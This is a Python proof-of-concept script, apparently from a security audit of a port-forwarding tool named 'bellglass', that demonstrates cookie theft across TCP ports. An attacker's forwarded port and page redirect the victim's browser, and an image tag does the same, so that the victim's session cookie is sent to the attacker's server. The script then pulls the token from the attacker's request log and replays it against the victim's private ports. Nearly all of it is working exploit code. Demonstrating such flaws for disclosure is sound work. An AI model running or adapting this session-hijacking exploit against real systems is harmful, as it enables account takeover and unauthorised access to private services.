"""Cookies do not know TCP ports. The viewer has opened a private port of victim by name (plain HTTP, the default domain) and forwards a port of
evil with `bellglass forward`. Evil's page leads the browser to victim's host name at the forwarded port: the browser sends victim's token there."""
import socket, subprocess, threading, time
from common import *
s = socket.socket(); s.bind(("127.0.0.1", 0)); local = s.getsockname()[1]; s.close()
forward = subprocess.Popen([E.get("BELLGLASS", "bellglass"), "forward", E["EVIL_ID"], f"{local}:8000"], env={**E, "BELLGLASS_SERVER": API, "BELLGLASS_API_KEY": E["EVIL_KEY"]}, stdout=subprocess.PIPE, text=True)
print(forward.stdout.readline().strip().replace(str(local), "PORT"))
try:
    with browser() as c:
        v = c.new_page(); v.goto(login("VICTIM"))
        e = c.new_page()
        # Evil's page, as the viewer opens it; what follows is done by its script alone.
        host = urlsplit(origin("VICTIM")).hostname
        e.goto(f"http://127.0.0.1:{local}" + page(f"setTimeout(() => location = 'http://{host}:{local}/stolen', 100)"))
        e.wait_for_url("**/stolen"); time.sleep(1)
        print("evil's page is now at:", e.evaluate("location.host").replace(str(local), "PORT"))
        i = c.new_page(); i.goto(f"http://127.0.0.1:{local}" + page(html=f"<img src='http://{host}:{local}/by-img'>")); time.sleep(1)
finally: forward.terminate(); forward.wait()
got = ""
for q in json.loads(inside("EVIL", "/log")[2]):
    if q["p"] in ("/stolen", "/by-img"):
        cookie = dict((k.lower(), x) for k, x in q["h"]).get("cookie", "")
        print(q["p"], "cookie that evil's application was sent:", cookie[:20] + "…" if cookie else "none", "| it is victim's token:", E["VICTIM_TOKEN"] in cookie)
        if E["VICTIM_TOKEN"] in cookie: got = cookie.split("bellglass=")[1].split(";")[0]
if got:
    con = urlsplit(API); import http.client
    h = http.client.HTTPConnection(con.hostname, con.port); h.request("GET", "/echo", headers={"host": urlsplit(origin("VICTIM")).netloc, "bellglass-token": got})
    a = h.getresponse(); print("victim's private port, asked with what was stolen:", a.status)
    h = http.client.HTTPConnection(con.hostname, con.port); h.request("GET", "/echo", headers={"host": urlsplit(origin("VICTIM", 9000)).netloc, "bellglass-token": got})
    print("victim's other private port (9000):", h.getresponse().status)
